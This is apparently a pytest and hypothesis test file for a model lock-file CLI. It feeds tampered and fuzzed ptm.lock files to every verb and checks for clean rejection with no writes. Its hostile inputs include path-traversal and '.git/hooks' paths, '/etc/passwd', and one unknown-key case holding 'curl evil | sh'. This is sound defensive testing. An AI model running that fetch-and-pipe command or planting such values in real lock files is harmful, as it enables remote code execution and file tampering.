"""A tampered ptm.lock (it arrives in pull requests like any file; issue 11 §2), through the real
CLI: every kind is exit 3 in `lock --check`, `sync`, `verify` and `list`, with one message naming
the field, no traceback, and nothing written anywhere; and a fuzz that mutates a valid lock and
asserts no verb crashes (exit 70) or writes outside its roots."""
from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lockhelpers import tiny_repo_files, write_manifest

VERBS = (("lock", "--check"), ("sync",), ("verify",), ("list",))
FIX = "Restore it from git, or delete it and run `ptmlock lock`."


@pytest.fixture
def locked(hub, project, ptm):
    """org/adapter (needs org/base through adapter_config.json) and org/plain, locked.
    Returns the lock text; models sort as org/adapter [0], org/base [1] (the dependency), org/plain [2]."""
    hub.commit("org/base", tiny_repo_files("base"))
    hub.commit("org/adapter", {"adapter_config.json": json.dumps({"base_model_name_or_path": "org/base",
                                                                  "peft_type": "LORA"}),
                               "adapter_model.safetensors": b"a" * 32})
    hub.commit("org/plain", tiny_repo_files("plain"))
    write_manifest(project, {"org/adapter": {}, "org/plain": {}})
    r = ptm("lock")
    assert r.code == 0, r.err
    text = (project / "ptm.lock").read_text()
    assert re.findall(r'^id = "(.*)"$', text, re.MULTILINE) == ["org/adapter", "org/base", "org/plain"]
    return text


def _nth_block(text: str, n: int) -> tuple[int, int]:
    starts = [m.start() for m in re.finditer(r"^\[\[model\]\]$", text, re.MULTILINE)]
    return starts[n], starts[n + 1] if n + 1 < len(starts) else len(text)


def _in_block(n: int, old: str, new: str, count: int = 1):
    """Replace the first `count` matches of regex `old` inside the n-th [[model]] block."""
    def edit(text: str) -> str:
        a, b = _nth_block(text, n)
        block, k = re.subn(old, new, text[a:b], count=count, flags=re.MULTILINE)
        assert k, (old, text[a:b])
        return text[:a] + block + text[b:]
    return edit


def _path(value: str):
    return _in_block(2, r'(\{ path = )"[^"]*"', lambda m: m.group(1) + json.dumps(value))


def _duplicate_block(text: str) -> str:
    a, b = _nth_block(text, 2)
    block = text[a:b].replace('id = "org/plain"', 'id = "ORG/Plain"')
    block = re.sub(r'^commit = "[0-9a-f]{40}"$', f'commit = "{"f" * 40}"', block, flags=re.MULTILINE)
    return text + "\n" + block


# (name, edit, what the message must contain)
TAMPERINGS = [
    ("dotdot path", _path("../../outside/x.json"), "'model[2].files[0].path': '../../outside/x.json' has a '..' component"),
    ("absolute path", None, "'model[2].files[0].path'"),  # filled in with tmp_path below
    ("backslash path", _path("a\\b.json"), "'model[2].files[0].path': 'a\\\\b.json' contains a backslash"),
    ("drive path", _path("C:x.json"), "'model[2].files[0].path': 'C:x.json' starts with a drive"),
    (".git path", _path(".git/hooks/post-checkout"), "'model[2].files[0].path': '.git/hooks/post-checkout' has a '.git'"),
    ("NUL in path", _path("a\x00b"), "'model[2].files[0].path': 'a\\x00b' contains a NUL or another control character"),
    ("empty component", _path("a//b"), "has an empty component"),
    ("non-hex commit", _in_block(2, r'^commit = ".*"$', 'commit = "main"'), "'model[2].commit': 'main' is not a 40-hex"),
    ("non-hex sha256", _in_block(2, r'sha256 = "[0-9a-f]{64}"', 'sha256 = "' + "z" * 64 + '"'),
     ".sha256': '" + "z" * 64 + "' is not 64 hex digits"),
    ("non-hex blob", _in_block(2, r'blob = "[0-9a-f]{40}"', 'blob = "../x"'), "'model[2].files[0].blob'"),
    ("second entry for an id", _duplicate_block,
     "'model[3].id': 'ORG/Plain' is already locked by 'model[2]' (one entry per id, case-insensitive)"),
    ("unknown parent", _in_block(1, r'^required-by = \[.*\]$', 'required-by = ["org/ghost"]'),
     "'model[1].required-by': 'org/ghost' is not a locked model"),
    ("unreachable dependency", _in_block(1, r'^required-by = \[.*\]$', 'required-by = ["org/base"]'),
     "'model[1].required-by': dependency 'org/base' is not needed by any top-level model"),
    ("repo-type a path", _in_block(1, r'^repo-type = ".*"$', 'repo-type = "../../../outside"'),
     "'model[1].repo-type': '../../../outside' is not one of model, dataset"),
    ("unknown hub", _in_block(1, r'^hub = ".*"$', 'hub = "evil"'), "'model[1].hub': 'evil' is not one of"),
    ("files = [1]", _in_block(2, r'^files = \[\n(    .*\n)*\]$', "files = [1]"),
     "Unexpected type integer (expected table) in 'model[2].files[0]'"),
    ("include = [1]", _in_block(2, r'^files = ', "include = [1]\nfiles = "),
     "Unexpected type integer (expected str) in 'model[2].include[0]'"),
    ("required-by = [1]", _in_block(1, r'^required-by = \[.*\]$', "required-by = [1]"),
     "Unexpected type integer (expected str) in 'model[1].required-by[0]'"),
    ("size 10^20", _in_block(2, r'size = \d+', "size = 100000000000000000000"), "'model[2].files[0].size'"),
    ("negative size", _in_block(2, r'size = \d+', "size = -1"), "'model[2].files[0].size'"),
    ("canonical id a path", _in_block(2, r'^commit = ', 'canonical-id = "../../x"\ncommit = '),
     "'model[2].canonical-id': '../../x' is not a valid id"),
    ("id with a newline", _in_block(2, r'^id = ".*"$', lambda m: 'id = "org/plain\\n"'), "'model[2].id'"),
    ("pickle-only hides pickles", _in_block(2, r'^pickle-only = false$', "pickle-only = true"),
     "'model[2].pickle-only': true contradicts the files listed"),
    ("gated = 3", _in_block(2, r'^gated = .*$', "gated = 3"), "'model[2].gated'"),
    ("unknown key", _in_block(2, r'^gated = ', 'script = "curl evil | sh"\ngated = '), "Unknown key in 'model[2].script'"),
    ("bad manifest-hash", lambda t: re.sub(r'^manifest-hash = ".*"$', 'manifest-hash = "sha256:x"', t, flags=re.MULTILINE),
     "'manifest-hash'"),
    ("newer format", lambda t: t.replace("version = 1", "version = 2"), "format version 2"),
    ("not TOML", lambda t: t + "\n[[model]\n", "not valid TOML"),
    ("nested too deeply", _in_block(2, r"^gated = .*$", "gated = " + "[" * 100_000), "values nested too deeply"),
]


def _snapshot(root: Path) -> dict[str, tuple[int, int]]:
    """Every path under `root` but the local hub's own storage, with size and mtime."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        if Path(dirpath) == root:
            dirnames[:] = [d for d in dirnames if d != "hub"]
        for name in dirnames + filenames:
            p = Path(dirpath, name)
            st = p.lstat()
            out[str(p)] = (st.st_size, st.st_mtime_ns)
    return out


def test_every_tampered_lock_is_exit_3_naming_the_field_and_writes_nothing(locked, project, ptm, tmp_path):
    kinds = [(n, e if e is not None else _path(str(tmp_path / "abs" / "x.json")), m) for n, e, m in TAMPERINGS]
    wrong = []
    assert ptm("sync").code == 0  # a cache to verify; sync must not touch it again below
    for name, edit, message in kinds:
        text = edit(locked)
        assert text != locked
        (project / "ptm.lock").write_text(text)
        for argv in VERBS:
            before = _snapshot(tmp_path)
            r = ptm(*argv)
            said = r.out + r.err
            after = _snapshot(tmp_path)
            if r.code != 3 or message not in said or FIX not in said or "Traceback" in said or before != after:
                changed = sorted(set(after.items()) ^ set(before.items()))[:3]
                wrong.append(f"{name}: ptmlock {' '.join(argv)} -> exit {r.code}: {said!r}; changed: {changed}")
        assert (project / "ptm.lock").read_text() == text
    assert not (tmp_path / "abs").exists() and not (tmp_path / "outside").exists()
    assert wrong == [], "\n".join(wrong)


def test_an_invalid_lock_is_not_replaced_by_lock(locked, project, ptm):
    (project / "ptm.lock").write_text(_duplicate_block(locked))
    r = ptm("lock")
    assert r.code == 3 and "one entry per id" in r.err
    assert (project / "ptm.lock").read_text() == _duplicate_block(locked)
    r = ptm("lock", "--upgrade")
    assert r.code == 3 and (project / "ptm.lock").read_text() == _duplicate_block(locked)


HOSTILE = [
    '"../x"', '"/etc/passwd"', "1", "-1", "[1]", "[]", '["a", 1]', "true", '"C:\\\\x"', '".git/config"', '"a\\u0000"',
    '"\\u007f"', '""', '"' + "0" * 40 + '"', '"' + "0" * 64 + '"', "{ a = 1 }", '"org/plain"', '"ORG/PLAIN"',
    "100000000000000000000", '"huggingface"', '"dataset"', '"url"', '"torchhub"', "1.5", '"\\ud800"', "'lit'",
]
HOSTILE_VALUES = st.sampled_from(HOSTILE)


def _with_value(part: str, value: str) -> str:
    """`key = old` of a file entry with `value` put in as it is (not as a replacement template, which
    would read the backslashes of `"a\\u0000"` as group references and escapes)."""
    return re.sub(r"= .*", lambda _: "= " + value, part) if "= " in part else part


def test_every_hostile_value_goes_into_a_file_entry_as_written() -> None:
    for value in HOSTILE:
        assert _with_value('size = 60', value) == "size = " + value


@st.composite
def mutations(draw, text: str) -> str:
    lines = text.split("\n")
    for _ in range(draw(st.integers(1, 3))):
        op = draw(st.sampled_from(["value", "delete", "duplicate", "char", "insert"]))
        i = draw(st.integers(0, len(lines) - 1))
        if op == "value" and " = " in lines[i]:
            key, _, value = lines[i].partition(" = ")
            if lines[i].startswith("    {"):  # a file entry: replace one of its values
                parts = re.split(r"(, | \})", value)
                j = draw(st.integers(0, max(0, len(parts) - 1)))
                parts[j] = _with_value(parts[j], draw(HOSTILE_VALUES))
                lines[i] = key + " = " + "".join(parts)
            else:
                lines[i] = key + " = " + draw(HOSTILE_VALUES)
        elif op == "delete":
            del lines[i]
        elif op == "duplicate":
            lines[i:i] = lines[i:i + draw(st.integers(1, 30))]
        elif op == "char" and lines[i]:
            j = draw(st.integers(0, len(lines[i]) - 1))
            lines[i] = lines[i][:j] + draw(st.characters(codec="utf-8")) + lines[i][j + 1:]
        elif op == "insert":
            lines.insert(i, draw(st.sampled_from(["[[model]]", 'id = "org/plain"', "files = [1]", "required-by = []",
                                                  'hub = "url"', "version = 1", "[model]", "files = ["])))
    return "\n".join(lines)


def test_fuzzed_locks_never_crash_a_verb_or_write_outside_its_roots(locked, project, ptm, tmp_path):
    roots = [str(tmp_path / "hf-home"), str(tmp_path / "xdg-cache"), str(tmp_path / "xdg-state")]

    @settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
    @given(text=mutations(locked))
    def run(text: str) -> None:
        (project / "ptm.lock").write_text(text)
        for argv in (("lock", "--check"), ("list",), ("verify",), ("sync",)):
            before = _snapshot(tmp_path)
            r = ptm(*argv)
            assert r.code in (0, 1, 3, 4, 5), (argv, r.code, r.err)
            assert "Traceback" not in r.out + r.err and "internal error" not in r.err
            after = _snapshot(tmp_path)
            changed = {p for p in set(before) | set(after) if before.get(p) != after.get(p)}
            outside = [p for p in changed if not p.startswith(tuple(roots))]
            assert outside == [], (argv, text)
            assert (project / "ptm.lock").read_text() == text  # none of these verbs writes the lock

    run()
